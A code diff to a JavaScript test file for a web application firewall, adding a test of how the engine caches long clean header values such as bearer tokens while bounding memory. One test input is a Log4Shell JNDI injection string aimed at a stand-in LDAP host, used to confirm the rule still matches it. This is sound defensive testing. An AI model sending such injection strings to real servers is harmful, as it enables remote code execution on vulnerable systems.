@@ -1,7 +1,7 @@
 import t from 'tap';
 import { RuleSet, Scan } from '../../src/waf/engine.js';
 import { Exclusions, parseTarget, S_BODY, S_COOKIE, S_HEADER, S_PATH, S_QUERY } from '../../src/waf/exclusions.js';
-import { T_URLENC, T_VALUE, CRITICAL } from '../../src/waf/rule.js';
+import { T_ANY_HEADER, T_URLENC, T_VALUE, CRITICAL } from '../../src/waf/rule.js';
 import { ALL_RULES, RULES_BY_ID } from '../../src/waf/rules/index.js';
 import { charMask } from '../../src/waf/chars.js';
 
@@ -61,4 +61,30 @@ void t.test('the character pre-filter: masks and the no-allocation clean path', 
   for (const v of ['12345', 'alice@example.com', '2024-05-01', 'ord_8f3a2c91', 'shipped']) rules.inspect(scan, T_VALUE | T_URLENC, v, S_QUERY, 'q');
   t.equal(scan.ids, null);
   t.equal(scan.score, 0);
+});
+
+void t.test('clean-value cache: long plain values (a bearer token) remembered, bounded in characters', async (t) => {
+  const rules = new RuleSet(1);
+  const token = 'Bearer ' + 'eyJhbGciOiJSUzI1NiJ9.'.padEnd(800, 'aB3_-');
+  const scan = new Scan();
+  rules.inspect(scan, T_ANY_HEADER, token, S_HEADER, 'authorization');
+  t.equal(scan.ids, null);
+  t.same(rules.cleanCache, { values: 1, chars: token.length }, 'the token is remembered after one gate pass');
+  rules.inspect(scan, T_ANY_HEADER, token, S_HEADER, 'authorization');
+  t.same(rules.cleanCache, { values: 1, chars: token.length }, 'and found again, not stored twice');
+  // A short plain value is cheaper to gate than to look up: not remembered.
+  rules.inspect(scan, T_ANY_HEADER, 'gzip, br', S_HEADER, 'accept-encoding');
+  t.equal(rules.cleanCache.values, 1);
+  // A long value that matches is never remembered, and still matches the second time.
+  const attack = '${jndi:ldap://x.example/a}'.padEnd(600, ' x');
+  for (let i = 0; i < 2; i++) {
+    const s = new Scan();
+    rules.inspect(s, T_ANY_HEADER, attack, S_HEADER, 'x-api-version');
+    t.ok(s.ids?.includes(944151), `log4shell matched (${i + 1})`);
+  }
+  t.equal(rules.cleanCache.values, 1);
+  // Many distinct 8 KB tokens: the characters held stay within 2 Mi (4 MiB of strings).
+  for (let i = 0; i < 600; i++) rules.inspect(new Scan(), T_ANY_HEADER, `Bearer ${i}.`.padEnd(8192, 'k'), S_HEADER, 'authorization');
+  t.ok(rules.cleanCache.chars <= 2 * 1024 * 1024, `${rules.cleanCache.chars} characters held`);
+  t.ok(rules.cleanCache.values > 0 && rules.cleanCache.values <= 256);
 });
